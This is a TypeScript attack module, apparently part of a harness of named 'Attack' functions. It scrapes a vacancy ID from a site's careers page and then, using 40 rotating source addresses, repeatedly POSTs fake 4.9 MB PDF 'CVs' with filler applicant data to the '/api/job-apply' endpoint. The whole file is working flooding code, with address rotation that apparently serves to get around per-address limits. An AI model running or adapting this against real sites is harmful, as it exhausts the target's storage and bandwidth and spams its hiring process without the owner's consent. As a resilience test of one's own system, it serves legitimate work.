import { FormData } from 'undici';
import { type Attack, addresses, agentFrom, readPage, repeat } from '../attack';

const CV = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(4_900_000, 'a')]);

/** 40 CVs of 4.9 MB from 40 addresses, repeatedly. */
export const jobForms: Attack = async (site) => {
  const page = await readPage(site, '/careers/apply-now');
  const vacancy = /<option[^>]* value="([^"]+)"/.exec(page)?.[1] ?? '';
  const agents = addresses(40).map((address) => agentFrom(address, site, 1));
  await repeat(40, async (n) => {
    const answer = await agents[n % agents.length]?.request({
      origin: site.url,
      path: '/api/job-apply',
      method: 'POST',
      body: formOf(vacancy, n),
    });
    await answer?.body.dump();
  });
};

function formOf(vacancy: string, n: number): FormData {
  const form = new FormData();
  const applicant = { vacancy, applicant_name: 'Radha Rao', mobile_code: '+91' };
  const more = {
    mobile: '9000000004',
    email: `teacher${n}@example.org`,
    qualification: 'Graduate',
    experience: '3',
  };
  for (const [name, value] of Object.entries({ ...applicant, ...more })) form.set(name, value);
  form.set('cv', new Blob([CV], { type: 'application/pdf' }), 'cv.pdf');
  return form;
}
